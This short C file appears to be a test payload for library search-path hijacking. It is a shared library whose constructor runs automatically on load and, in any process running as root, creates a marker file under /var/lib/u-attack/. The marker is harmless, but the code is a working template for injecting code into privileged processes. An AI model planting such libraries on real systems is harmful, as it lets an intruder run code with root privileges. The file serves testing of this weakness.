// SPDX-License-Identifier: GPL-2.0-only
/* A library that an attacker has laid where a program looks for its own: leaves a file behind in any process of root's. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void steal(void)
{
	char path[64];

	if (geteuid())
		return;
	snprintf(path, sizeof(path), "/var/lib/u-attack/owned-%d", getpid());
	close(open(path, O_WRONLY | O_CREAT, 0600));
}
